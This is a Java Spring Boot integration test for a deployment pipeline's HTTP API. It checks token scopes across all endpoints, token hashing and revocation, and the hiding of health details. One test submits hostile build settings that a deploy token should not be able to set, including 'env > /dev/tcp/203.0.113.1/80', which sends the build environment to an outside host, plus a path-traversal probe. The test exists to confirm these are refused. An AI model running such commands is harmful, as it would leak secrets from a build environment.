package dev.deploypipeline.upload;

import static dev.deploypipeline.upload.ApiClient.read;
import static dev.deploypipeline.upload.ApiClient.repo;
import static org.assertj.core.api.Assertions.assertThat;

import dev.deploypipeline.deployment.Deployment;
import dev.deploypipeline.deployment.DeploymentId;
import dev.deploypipeline.deployment.DeploymentStore;
import dev.deploypipeline.deployment.DeploymentTransitions;
import dev.deploypipeline.project.ProjectStore;
import dev.deploypipeline.storage.ObjectKeys;
import dev.deploypipeline.storage.ObjectUpload;
import dev.deploypipeline.testing.PipelineServers;
import dev.deploypipeline.upload.access.PublicEndpoint;
import dev.deploypipeline.upload.access.Requires;
import java.io.ByteArrayInputStream;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.BiFunction;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.boot.webmvc.error.ErrorController;
import org.springframework.context.ApplicationContext;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import org.springframework.web.servlet.mvc.method.RequestMappingInfo;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;
import tools.jackson.databind.JsonNode;

/**
 * Who may call what, from outside over HTTP: every endpoint is called with no token, a wrong one, the read token,
 * deploy tokens limited to another project, to the project concerned, and to none, and the admin token, and
 * gets 401, 403 or its success where it should. A second test walks every mapping of the application, so an
 * endpoint added without a declared scope, or left out of the matrix here, fails the build.
 */
@SpringBootTest(
        webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
        properties = {
            "api.token=" + AccessTest.ADMIN,
            "api.read-token=" + AccessTest.READ,
            "github.webhook-secret=" + AccessTest.WEBHOOK_SECRET,
            "notify.allowed-hosts=127.0.0.1:9"
        })
class AccessTest {

    static final String ADMIN = "admin-token-of-the-access-test";
    static final String READ = "read-token-of-the-access-test";
    static final String WEBHOOK_SECRET = "webhook-secret-of-the-access-test";
    private static final String PROJECT = "owned";
    private static final AtomicInteger CALLS = new AtomicInteger();
    /** A target on an allowlisted address where nothing answers: its deliveries fail, which changes nothing here. */
    private static final Map<String, Object> NOTIFICATION_TARGET =
            Map.of("type", "webhook", "url", "http://127.0.0.1:9/hook", "events", List.of("deployment.failed"));

    @RegisterExtension
    static final PipelineServers servers = PipelineServers.start();

    private static final DeploymentStore deployments = servers.deployments();
    private static final DeploymentTransitions transitions = servers.transitions();
    private static final ProjectStore projects = servers.projects();
    private static final Map<Who, String> TOKENS = new EnumMap<>(Who.class);
    private static DeploymentId deployed;

    @LocalServerPort
    int port;

    @Autowired
    ApplicationContext context;

    /** The callers, each with its token. */
    enum Who {
        NO_TOKEN,
        WRONG_TOKEN,
        READ_TOKEN,
        DEPLOY_OTHER_PROJECT,
        DEPLOY_THIS_PROJECT,
        DEPLOY_ANY,
        ADMIN_TOKEN
    }

    /** What an endpoint needs, lowest first. */
    enum Needs {
        NOTHING,
        READ,
        DEPLOY_THIS_PROJECT,
        DEPLOY_ANY,
        ADMIN;

        /** The status a caller gets: the endpoint's success if it may, else 401 without a valid token or 403. */
        int statusFor(Who who, int success) {
            boolean allowed = switch (who) {
                case NO_TOKEN, WRONG_TOKEN -> this == NOTHING;
                case READ_TOKEN, DEPLOY_OTHER_PROJECT -> compareTo(READ) <= 0;
                case DEPLOY_THIS_PROJECT -> compareTo(DEPLOY_THIS_PROJECT) <= 0;
                case DEPLOY_ANY -> compareTo(DEPLOY_ANY) <= 0;
                case ADMIN_TOKEN -> true;
            };
            if (allowed) {
                return success;
            }
            return who == Who.NO_TOKEN || who == Who.WRONG_TOKEN ? 401 : 403;
        }
    }

    /** One endpoint: its mapping, what it needs, what it answers when allowed, and a call of it. */
    record Endpoint(
            String mapping, Needs needs, int success, BiFunction<AccessTest, ApiClient, HttpResponse<String>> call) {
        @Override
        public String toString() {
            return mapping + " (" + needs + ")";
        }
    }

    static final List<Endpoint> ENDPOINTS = List.of(
            new Endpoint(
                    "POST /deploy",
                    Needs.DEPLOY_THIS_PROJECT,
                    202,
                    (test, api) -> api.post("/deploy", Map.of("project", PROJECT))),
            new Endpoint(
                    "POST /deploy",
                    Needs.DEPLOY_ANY,
                    202,
                    (test, api) -> api.post("/deploy", repo(servers.git().url("no-project")))),
            new Endpoint("GET /status", Needs.READ, 200, (test, api) -> api.get("/status?id=" + deployed)),
            new Endpoint("GET /deployments", Needs.READ, 200, (test, api) -> api.get("/deployments?limit=5")),
            new Endpoint("GET /deployments/{id}", Needs.READ, 200, (test, api) -> api.get("/deployments/" + deployed)),
            new Endpoint(
                    "GET /deployments/{id}/logs",
                    Needs.READ,
                    200,
                    (test, api) -> api.get("/deployments/" + deployed + "/logs")),
            new Endpoint(
                    "GET /deployments/{id}/logs?follow=true",
                    Needs.READ,
                    200,
                    (test, api) -> api.get("/deployments/" + deployed + "/logs?follow=true")),
            new Endpoint("GET /events", Needs.READ, 200, (test, api) -> api.openStream("/events")),
            new Endpoint(
                    "POST /deployments/{id}/redeploy",
                    Needs.DEPLOY_THIS_PROJECT,
                    202,
                    (test, api) -> api.post("/deployments/" + deployed + "/redeploy", Map.of())),
            new Endpoint("GET /queue", Needs.READ, 200, (test, api) -> api.get("/queue")),
            new Endpoint("GET /caller", Needs.READ, 200, (test, api) -> api.get("/caller")),
            new Endpoint("GET /projects", Needs.READ, 200, (test, api) -> api.get("/projects")),
            new Endpoint("GET /", Needs.NOTHING, 200, (test, api) -> api.get("/")),
            new Endpoint(
                    "POST /deployments/{id}/cancel",
                    Needs.DEPLOY_THIS_PROJECT,
                    200,
                    (test, api) -> api.post("/deployments/" + waiting() + "/cancel", Map.of())),
            new Endpoint(
                    "POST /projects",
                    Needs.ADMIN,
                    201,
                    (test, api) -> api.post(
                            "/projects",
                            Map.of(
                                    "name",
                                    "made-" + CALLS.incrementAndGet(),
                                    "repoUrl",
                                    servers.git().url("made")))),
            new Endpoint("GET /projects/{name}", Needs.READ, 200, (test, api) -> api.get("/projects/" + PROJECT)),
            new Endpoint(
                    "PATCH /projects/{name}",
                    Needs.ADMIN,
                    200,
                    (test, api) -> api.patch("/projects/" + PROJECT, Map.of("spaFallback", true))),
            new Endpoint(
                    "GET /projects/{name}/deployments",
                    Needs.READ,
                    200,
                    (test, api) -> api.get("/projects/" + PROJECT + "/deployments")),
            new Endpoint(
                    "POST /projects/{name}/rollback",
                    Needs.DEPLOY_THIS_PROJECT,
                    200,
                    (test, api) -> api.post("/projects/" + PROJECT + "/rollback", Map.of("id", deployed.value()))),
            new Endpoint(
                    "POST /projects/{name}/promote",
                    Needs.DEPLOY_THIS_PROJECT,
                    200,
                    (test, api) -> api.post("/projects/" + PROJECT + "/promote", Map.of("id", deployed.value()))),
            new Endpoint(
                    "DELETE /projects/{name}/pin",
                    Needs.DEPLOY_THIS_PROJECT,
                    200,
                    (test, api) -> api.delete("/projects/" + PROJECT + "/pin")),
            new Endpoint(
                    "POST /projects/{name}/hooks",
                    Needs.ADMIN,
                    201,
                    (test, api) -> api.post("/projects/" + PROJECT + "/hooks", Map.of("name", "cms"))),
            new Endpoint(
                    "GET /projects/{name}/hooks",
                    Needs.READ,
                    200,
                    (test, api) -> api.get("/projects/" + PROJECT + "/hooks")),
            new Endpoint(
                    "DELETE /projects/{name}/hooks/{id}",
                    Needs.ADMIN,
                    204,
                    (test, api) -> api.delete("/projects/" + PROJECT + "/hooks/"
                            + test.madeHook().get("id").asString())),
            new Endpoint(
                    "POST /hooks/{secret}",
                    Needs.NOTHING,
                    202,
                    (test, api) -> api.send(HttpRequest.newBuilder(java.net.URI.create(
                                    test.madeHook().get("url").asString()))
                            .POST(HttpRequest.BodyPublishers.noBody()))),
            new Endpoint(
                    "POST /projects/{name}/notifications",
                    Needs.ADMIN,
                    201,
                    (test, api) -> api.post("/projects/" + PROJECT + "/notifications", NOTIFICATION_TARGET)),
            new Endpoint(
                    "GET /projects/{name}/notifications",
                    Needs.READ,
                    200,
                    (test, api) -> api.get("/projects/" + PROJECT + "/notifications")),
            new Endpoint(
                    "DELETE /projects/{name}/notifications/{id}",
                    Needs.ADMIN,
                    204,
                    (test, api) -> api.delete("/projects/" + PROJECT + "/notifications/" + test.madeTarget())),
            new Endpoint(
                    "GET /projects/{name}/notifications/deliveries",
                    Needs.READ,
                    200,
                    (test, api) -> api.get("/projects/" + PROJECT + "/notifications/deliveries")),
            new Endpoint("GET /dead-letters", Needs.READ, 200, (test, api) -> api.get("/dead-letters")),
            new Endpoint(
                    "POST /dead-letters/{id}/requeue",
                    Needs.ADMIN,
                    200,
                    (test, api) -> api.post("/dead-letters/" + deadLetter() + "/requeue", Map.of())),
            new Endpoint(
                    "POST /maintenance/purge",
                    Needs.ADMIN,
                    200,
                    (test, api) -> api.post("/maintenance/purge?dryRun=true", "")),
            new Endpoint(
                    "POST /tokens",
                    Needs.ADMIN,
                    201,
                    (test, api) -> api.post("/tokens", Map.of("name", "ci", "scope", "read"))),
            new Endpoint("GET /tokens", Needs.ADMIN, 200, (test, api) -> api.get("/tokens")),
            new Endpoint(
                    "DELETE /tokens/{id}",
                    Needs.ADMIN,
                    204,
                    (test, api) -> api.delete("/tokens/"
                            + test.madeToken("to-revoke", "read").get("id").asString())),
            new Endpoint(
                    "POST /webhooks/github",
                    Needs.NOTHING,
                    200,
                    (test, api) -> api.send(api.request("/webhooks/github")
                            .header("X-GitHub-Event", "ping")
                            .header("X-GitHub-Delivery", UUID.randomUUID().toString())
                            .header(
                                    "X-Hub-Signature-256",
                                    GitHubDeliveries.signature("{\"zen\":\"hi\"}", WEBHOOK_SECRET))
                            .POST(HttpRequest.BodyPublishers.ofString("{\"zen\":\"hi\"}")))),
            new Endpoint("GET /actuator/health", Needs.NOTHING, 200, (test, api) -> api.get("/actuator/health")),
            new Endpoint("GET /actuator/metrics", Needs.READ, 200, (test, api) -> api.get("/actuator/metrics")),
            new Endpoint("GET /actuator/prometheus", Needs.READ, 200, (test, api) -> api.get("/actuator/prometheus")));

    @DynamicPropertySource
    static void pipeline(DynamicPropertyRegistry registry) {
        servers.register(registry);
    }

    /** Once: the project, its repository, a deployed deployment of it with a log, and a token of each kind. */
    @BeforeEach
    void projectAndTokens() {
        if (!TOKENS.isEmpty()) {
            return;
        }
        servers.git().repository(PROJECT).file("index.html", "owned").commit("owned");
        servers.git().repository("no-project").file("index.html", "bare").commit("bare");
        HttpResponse<String> project = client(ADMIN)
                .post(
                        "/projects",
                        Map.of("name", PROJECT, "repoUrl", servers.git().url(PROJECT), "branch", "main"));
        assertThat(project.statusCode()).as(project.body()).isEqualTo(201);
        deployed = deployment(PROJECT);
        transitions.upload(deployed, "0".repeat(40));
        transitions.start(deployed, "");
        transitions.deploy(deployed, "");
        byte[] log = "2026-11-22T10:00:00.000Z built\n".getBytes(StandardCharsets.UTF_8);
        servers.storage()
                .putAll(List.of(new ObjectUpload(
                        ObjectKeys.log(deployed), log.length, "text/plain", () -> new ByteArrayInputStream(log))));
        TOKENS.put(Who.NO_TOKEN, null);
        TOKENS.put(Who.WRONG_TOKEN, ADMIN + "-guessed");
        TOKENS.put(Who.READ_TOKEN, READ);
        TOKENS.put(
                Who.DEPLOY_OTHER_PROJECT,
                madeToken("ci of another", "deploy", "another").get("token").asString());
        TOKENS.put(
                Who.DEPLOY_THIS_PROJECT,
                madeToken("ci of owned", "deploy", PROJECT, "another")
                        .get("token")
                        .asString());
        TOKENS.put(Who.DEPLOY_ANY, madeToken("ci of all", "deploy").get("token").asString());
        TOKENS.put(Who.ADMIN_TOKEN, ADMIN);
    }

    static Stream<Arguments> everyEndpointAsEveryCaller() {
        return ENDPOINTS.stream()
                .flatMap(endpoint -> Arrays.stream(Who.values()).map(who -> Arguments.of(endpoint, who)));
    }

    @ParameterizedTest(name = "{0} as {1}")
    @MethodSource("everyEndpointAsEveryCaller")
    void eachCallerGetsWhatItsTokenAllows(Endpoint endpoint, Who who) {
        int expected = endpoint.needs().statusFor(who, endpoint.success());

        HttpResponse<String> response = endpoint.call().apply(this, client(TOKENS.get(who)));

        assertThat(response.statusCode()).as(response.body()).isEqualTo(expected);
        if (expected == 401 || expected == 403) {
            assertThat(response.headers().firstValue("Content-Type")).hasValue("application/problem+json");
            assertThat(read(response).get("detail").asString()).isNotBlank();
        }
        if (expected == 401) {
            assertThat(response.headers().firstValue("WWW-Authenticate")).hasValue("Bearer");
        }
    }

    @Test
    void everyMappedEndpointDeclaresItsScopeAndIsCalledAsEveryCallerAbove() {
        RequestMappingHandlerMapping mapping =
                context.getBean("requestMappingHandlerMapping", RequestMappingHandlerMapping.class);
        Set<String> mapped = new TreeSet<>();
        List<String> undeclared = new ArrayList<>();

        mapping.getHandlerMethods().forEach((info, method) -> {
            if (ErrorController.class.isAssignableFrom(method.getBeanType())) {
                return; // Spring's error page, which renders the errors of requests already checked
            }
            boolean declared =
                    method.hasMethodAnnotation(Requires.class) != method.hasMethodAnnotation(PublicEndpoint.class);
            if (!method.getBeanType().getPackageName().startsWith("dev.deploypipeline.") || !declared) {
                undeclared.add(method.toString());
            }
            mapped.addAll(keys(info));
        });

        assertThat(undeclared)
                .as("handler methods without exactly one of @Requires and @PublicEndpoint")
                .isEmpty();
        Set<String> called = ENDPOINTS.stream()
                .map(Endpoint::mapping)
                .filter(key -> !key.contains("/actuator/"))
                .collect(Collectors.toCollection(TreeSet::new));
        assertThat(called).as("the endpoints the matrix calls").isEqualTo(mapped);
    }

    @Test
    void healthTellsOnlyUpOrDownToCallersWithoutAReadToken() {
        JsonNode anonymous = read(client(null).get("/actuator/health"));
        JsonNode wrong = read(client(ADMIN + "x").get("/actuator/health"));
        JsonNode reader = read(client(READ).get("/actuator/health"));

        assertThat(anonymous.get("status").asString()).isEqualTo("UP");
        assertThat(anonymous.has("components")).isFalse();
        assertThat(wrong.has("components")).isFalse();
        assertThat(reader.get("components").has("diskSpace"))
                .as(reader.toString())
                .isTrue();
        assertThat(client(null).get("/actuator/health/..;/metrics").statusCode())
                .isIn(400, 401, 404);
        assertThat(client(null).get("/actuator/metrics/jvm.memory.used").statusCode())
                .isEqualTo(401);
    }

    @Test
    void whatNoHandlerOfTheApiAnswersNeedsAReadTokenToo() {
        HttpResponse<String> options = client(null)
                .send(client(null).request("/deploy").method("OPTIONS", HttpRequest.BodyPublishers.noBody()));
        HttpResponse<String> unknown = client(null).get("/no/such/path");

        assertThat(options.statusCode()).isEqualTo(401);
        assertThat(unknown.statusCode()).isEqualTo(401);
        assertThat(client(READ).get("/no/such/path").statusCode()).isEqualTo(404);
        assertThat(client(READ)
                        .send(client(READ).request("/deploy").method("OPTIONS", HttpRequest.BodyPublishers.noBody()))
                        .headers()
                        .firstValue("Allow"))
                .isPresent();
    }

    @Test
    void aTokenIsShownOnceStoredAsAHashWorksAtOnceAndIsRevokedAtOnce() {
        JsonNode made = madeToken("dashboard", "read");
        String token = made.get("token").asString();
        String id = made.get("id").asString();

        assertThat(token).startsWith("dp_").hasSize(3 + 43);
        assertThat(made.get("scope").asString()).isEqualTo("read");
        assertThat(made.has("projects")).isFalse();
        assertThat(client(token).get("/deployments").statusCode()).isEqualTo(200);
        assertThat(client(token).post("/deploy", Map.of("project", PROJECT)).statusCode())
                .isEqualTo(403);
        String listed = client(ADMIN).get("/tokens").body();
        assertThat(listed).contains(id, "dashboard").doesNotContain(token);
        assertThat(servers.everythingInRedis()).doesNotContain(token).doesNotContain(token.substring(3));

        assertThat(client(ADMIN).delete("/tokens/" + id).statusCode()).isEqualTo(204);

        HttpResponse<String> revoked = client(token).get("/deployments");
        assertThat(revoked.statusCode()).isEqualTo(401);
        assertThat(read(revoked).get("detail").asString()).contains("not valid");
        assertThat(client(ADMIN).delete("/tokens/" + id).statusCode()).isEqualTo(404);
        assertThat(client(ADMIN).get("/tokens").body()).doesNotContain(id);
    }

    @Test
    void callerTellsEachTokenItsOwnScopeAndProjectsAndNeverItsValue() {
        JsonNode admin = client(ADMIN).getJson("/caller");
        JsonNode reader = client(READ).getJson("/caller");
        JsonNode limited = client(TOKENS.get(Who.DEPLOY_OTHER_PROJECT)).getJson("/caller");
        JsonNode any = client(TOKENS.get(Who.DEPLOY_ANY)).getJson("/caller");

        assertThat(admin.get("scope").asString()).isEqualTo("admin");
        assertThat(admin.get("name").asString()).isEqualTo("API_TOKEN");
        assertThat(reader.get("scope").asString()).isEqualTo("read");
        assertThat(limited.get("scope").asString()).isEqualTo("deploy");
        assertThat(limited.get("projects").get(0).asString()).isEqualTo("another");
        assertThat(limited.get("projects")).hasSize(1);
        assertThat(any.get("scope").asString()).isEqualTo("deploy");
        assertThat(any.has("projects")).isFalse();
        for (Who who : List.of(Who.DEPLOY_OTHER_PROJECT, Who.DEPLOY_ANY)) {
            String value = TOKENS.get(who);
            assertThat(client(value).get("/caller").body())
                    .startsWith("{\"name\":\"token ")
                    .doesNotContain(value);
        }
    }

    @Test
    void aProjectLimitedTokenIsToldWhichProjectsItMayDeploy() {
        HttpResponse<String> refused =
                client(TOKENS.get(Who.DEPLOY_OTHER_PROJECT)).post("/deploy", Map.of("project", PROJECT));

        assertThat(refused.statusCode()).isEqualTo(403);
        assertThat(read(refused).get("detail").asString())
                .isEqualTo("this token may deploy only project another, not owned");
    }

    @Test
    void onlyAnAdminMayChangeWhatAProjectsBuildRunsForOneDeploymentSinceItRunsWithTheProjectsEnv() {
        long before = servers.redis().hlen("status");
        Map<String, String> changes = Map.of(
                "buildCommand", "mkdir -p dist && env > dist/env.txt",
                "installCommand", "env > /dev/tcp/203.0.113.1/80",
                "rootDirectory", "docs",
                "outputDirectory", "node_modules");
        for (Who who : List.of(Who.DEPLOY_THIS_PROJECT, Who.DEPLOY_ANY)) {
            changes.forEach((setting, value) -> {
                HttpResponse<String> refused =
                        client(TOKENS.get(who)).post("/deploy", Map.of("project", PROJECT, setting, value));

                assertThat(refused.statusCode())
                        .as(who + " " + setting + ": " + refused.body())
                        .isEqualTo(403);
                assertThat(read(refused).get("detail").asString())
                        .contains("only an admin token may change")
                        .contains("PATCH /projects/" + PROJECT);
            });
        }
        assertThat(servers.redis().hlen("status")).as("nothing was accepted").isEqualTo(before);

        HttpResponse<String> variables = client(TOKENS.get(Who.DEPLOY_THIS_PROJECT))
                .post("/deploy", Map.of("project", PROJECT, "env", Map.of("GREETING", "hello"), "cache", false));
        HttpResponse<String> admin =
                client(ADMIN).post("/deploy", Map.of("project", PROJECT, "buildCommand", "npm run build:docs"));

        assertThat(variables.statusCode()).as(variables.body()).isEqualTo(202);
        assertThat(admin.statusCode()).as(admin.body()).isEqualTo(202);
    }

    @Test
    void tokenRequestsThatCannotBeATokenAre400AndMakeNone() {
        long before = client(ADMIN).getJson("/tokens").size();

        for (Object body : List.of(
                Map.of("scope", "read"),
                Map.of("name", "x", "scope", "root"),
                Map.of("name", "x"),
                Map.of("name", "x", "scope", "read", "projects", List.of(PROJECT)),
                Map.of("name", "x", "scope", "deploy", "projects", List.of()),
                Map.of("name", "x", "scope", "deploy", "projects", List.of("Not_A_Project")),
                Map.of("name", "line\nbreak", "scope", "read"),
                "{\"name\": ")) {
            HttpResponse<String> response = client(ADMIN).post("/tokens", body);
            assertThat(response.statusCode()).as(ApiClient.json(body)).isEqualTo(400);
            assertThat(read(response).get("detail").asString()).isNotBlank();
        }
        assertThat(client(ADMIN).delete("/tokens/not-an-id").statusCode()).isEqualTo(400);
        assertThat(client(ADMIN).getJson("/tokens").size()).isEqualTo(before);
    }

    private static Set<String> keys(RequestMappingInfo info) {
        String params = info.getParamsCondition().getExpressions().stream()
                .map(Object::toString)
                .sorted()
                .collect(Collectors.joining("&"));
        return info.getMethodsCondition().getMethods().stream()
                .flatMap(method -> info.getPatternValues().stream()
                        .map(pattern -> method + " " + pattern + (params.isEmpty() ? "" : "?" + params)))
                .collect(Collectors.toSet());
    }

    JsonNode madeHook() {
        HttpResponse<String> response = client(ADMIN).post("/projects/" + PROJECT + "/hooks", Map.of("name", "ci"));
        assertThat(response.statusCode()).as(response.body()).isEqualTo(201);
        return read(response);
    }

    String madeTarget() {
        HttpResponse<String> response =
                client(ADMIN).post("/projects/" + PROJECT + "/notifications", NOTIFICATION_TARGET);
        assertThat(response.statusCode()).as(response.body()).isEqualTo(201);
        return read(response).get("id").asString();
    }

    JsonNode madeToken(String name, String scope, String... limitedTo) {
        Map<String, Object> request = limitedTo.length == 0
                ? Map.of("name", name, "scope", scope)
                : Map.of("name", name, "scope", scope, "projects", List.of(limitedTo));
        HttpResponse<String> response = client(ADMIN).post("/tokens", request);
        assertThat(response.statusCode()).as(response.body()).isEqualTo(201);
        return read(response);
    }

    private ApiClient client(String token) {
        return new ApiClient(port, token);
    }

    /** A new deployment of {@code project}, being fetched. */
    private static DeploymentId deployment(String project) {
        DeploymentId id = DeploymentId.random();
        Instant now = Instant.now();
        transitions.accept(
                Deployment.accepted(id, servers.git().url(project), "main", project, now), Duration.ofMinutes(1));
        return id;
    }

    private static DeploymentId waiting() {
        return deployment(PROJECT);
    }

    private static DeploymentId deadLetter() {
        DeploymentId id = deployment(PROJECT);
        transitions.fail(id, "gave up after 3 attempts");
        servers.redis().lpush("build-queue:dead", id.value());
        return id;
    }
}
